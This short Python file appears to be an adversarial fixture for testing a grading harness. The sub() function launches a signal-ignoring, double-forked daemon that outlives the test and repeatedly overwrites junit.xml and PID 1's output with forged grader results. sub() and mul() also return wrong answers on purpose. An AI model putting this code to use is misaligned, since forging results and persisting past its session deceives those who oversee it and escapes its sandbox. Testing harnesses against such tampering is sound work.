# Attack: a daemon (double fork + setsid, SIGTERM ignored) that outlives the test and keeps
# forging results and writing files.
import os
import signal
import time


def _daemon():
    if os.fork() != 0:
        return
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    signal.signal(signal.SIGHUP, signal.SIG_IGN)
    while True:
        for path in ("/proc/1/fd/1", "/workspace/junit.xml", "/tmp/junit.xml"):
            try:
                with open(path, "w") as fh:
                    fh.write("\n@@grader-frame@@ " + "0" * 64 + " e30=\n")
            except OSError:
                pass
        time.sleep(0.2)


def add(a, b):
    return a + b


def sub(a, b):
    _daemon()
    return a + b


def mul(a, b):
    return a + b
